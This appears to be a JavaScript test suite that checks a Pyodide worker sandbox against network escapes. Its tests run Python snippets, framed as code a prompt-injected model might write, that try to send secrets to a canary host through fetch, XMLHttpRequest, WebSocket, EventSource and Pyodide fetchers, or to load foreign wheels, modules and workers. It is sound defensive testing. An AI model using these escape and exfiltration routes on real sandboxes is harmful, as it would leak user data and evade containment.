// @ts-check
// The sandbox boundary under attack, over the network: Python a
// prompt-injected model might write tries every way out of the worker it
// has (fetch, XMLHttpRequest, sockets, Pyodide's own fetchers, imports,
// nested workers), run in the real app, and each case asserts the specific
// way it was stopped; a deployment's allowlist lets code reach its origins
// and no other. The canary (attacks-app.mjs) must never hear from the sandbox.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";

import { failedWith, REFUSALS, useAttackedApp } from "./attacks-app.mjs";
import { startCanary } from "./canary.mjs";
import { startApp } from "./harness.mjs";

let canary;
const { leak, attempt } = useAttackedApp((ready) => {
  canary = ready.canary;
});

/** The CSP refused a request to the canary (any scheme), and the result says so. */
function refusedByCsp(result, directive = "connect-src") {
  const canaryHost = new URL(canary.origin).host;
  const toCanary = (url) => URL.canParse(url) && new URL(url).host === canaryHost;
  assert.ok(
    result.blocked.some((b) => b.directive === directive && toCanary(b.url)),
    `expected a ${directive} refusal in ${JSON.stringify(result.blocked)}`,
  );
}

describe("network", () => {
  test("js.fetch is refused by the worker's CSP, with a network hint", async () => {
    const result = await attempt(`import js\nawait js.fetch("${leak("fetch")}?secret=1")`);
    failedWith(result, "JsException");
    assert.match(result.error.message, /Failed to fetch/);
    refusedByCsp(result);
    assert.equal(result.error.hint.code, "network_blocked");
  });

  test("fetch in no-cors mode is refused too", async () => {
    const result = await attempt(
      `import js\nfrom pyodide.ffi import to_js\nawait js.fetch("${leak("nocors")}", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))`,
    );
    failedWith(result, "JsException");
    refusedByCsp(result);
  });

  test("asynchronous XMLHttpRequest is refused", async () => {
    const result = await attempt(
      `import js, asyncio\nx = js.XMLHttpRequest.new()\nx.open("POST", "${leak("xhr")}")\nx.send("secret")\nawait asyncio.sleep(0.2)\nx.status`,
    );
    assert.equal(result.status, "ok");
    assert.equal(result.value.repr, "0", "no response ever arrived");
    refusedByCsp(result);
  });

  test("synchronous XMLHttpRequest is refused", async () => {
    const result = await attempt(
      `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "${leak("sync-xhr")}", False)\nx.send()`,
    );
    failedWith(result, "JsException");
    assert.match(result.error.message, /NetworkError|Failed to execute 'send'/);
    refusedByCsp(result);
  });

  test("WebSocket is refused", async () => {
    const url = leak("ws").replace("http:", "ws:");
    const result = await attempt(`import js, asyncio\nws = js.WebSocket.new("${url}")\nawait asyncio.sleep(0.2)\nws.readyState`);
    if (result.status === "ok") {
      assert.equal(result.value.repr, "3", "the socket is closed, never open");
    } else {
      failedWith(result, "JsException");
    }
    refusedByCsp(result);
  });

  test("EventSource is refused", async () => {
    const result = await attempt(
      `import js, asyncio\nes = js.EventSource.new("${leak("sse")}")\nawait asyncio.sleep(0.2)\nes.readyState`,
    );
    assert.equal(result.status, "ok");
    assert.equal(result.value.repr, "2", "the stream is closed");
    refusedByCsp(result);
  });

  test("pyodide.http.pyfetch is refused", async () => {
    const result = await attempt(`from pyodide.http import pyfetch\nawait pyfetch("${leak("pyfetch")}")`);
    assert.equal(result.status, "error");
    assert.match(result.error.message, /Failed to fetch/);
    refusedByCsp(result);
  });

  test("pyodide.http.open_url (synchronous) is refused", async () => {
    const result = await attempt(`from pyodide.http import open_url\nopen_url("${leak("open_url")}")`);
    assert.equal(result.status, "error");
    refusedByCsp(result);
  });

  test("pyodide.http.pyxhr is refused", async () => {
    const result = await attempt(`from pyodide.http import pyxhr\npyxhr.get("${leak("pyxhr")}")`);
    assert.equal(result.status, "error");
    refusedByCsp(result);
  });

  test("loadPackage pointed at a foreign wheel is refused", async () => {
    const result = await attempt(
      `import pyodide_js\nawait pyodide_js.loadPackage("${leak("evil")}/evil-1.0-py3-none-any.whl")`,
    );
    refusedByCsp(result);
  });

  test("dynamic import() needs eval, which the CSP refuses", async () => {
    const result = await attempt(`from pyodide.code import run_js\nrun_js("import('${leak("import")}/x.mjs')")`);
    failedWith(result, "JsException");
    assert.match(result.error.message, /EvalError|unsafe-eval/);
  });

  test("a nested worker cannot be started: the constructor is gone", async () => {
    const result = await attempt(`import js\njs.Worker.new("${leak("worker")}")`);
    failedWith(result, "AttributeError");
    assert.match(result.error.message, /Worker/);
  });

  test("a blob worker cannot be started either", async () => {
    const result = await attempt(
      `import js\nfrom pyodide.ffi import to_js\nblob = js.Blob.new(to_js(["fetch('${leak("blob-worker")}')"]))\nurl = js.URL.createObjectURL(blob)\njs.Worker.new(url)`,
    );
    failedWith(result, "AttributeError");
  });
});

describe("allowlisted origins", () => {
  let data;
  let allowed;
  let page;

  before(async () => {
    data = await startCanary({ cors: true });
    allowed = await startApp({ allowOrigins: [data.origin] });
    page = await (await allowed.newPage()).open();
    await page.waitReady();
  });
  after(async () => {
    await allowed?.close();
    await data?.close();
  });

  test("code may fetch from an origin the deployment allows, and only from it", async () => {
    const ok = await page.run(
      `import js\nresponse = await js.fetch("${data.origin}/dataset.csv")\nawait response.text()`,
    );
    assert.equal(ok.json.status, "ok");
    assert.equal(ok.value, "'canary data'");
    assert.deepEqual(data.requests, ["GET /dataset.csv"]);
    const other = await page.run(`import js\nawait js.fetch("${leak("not-allowed")}")`);
    assert.equal(other.json.status, "error");
    assert.equal(other.json.error.hint.code, "network_blocked");
    await page.assertHealthy({ allow: REFUSALS });
  });
});
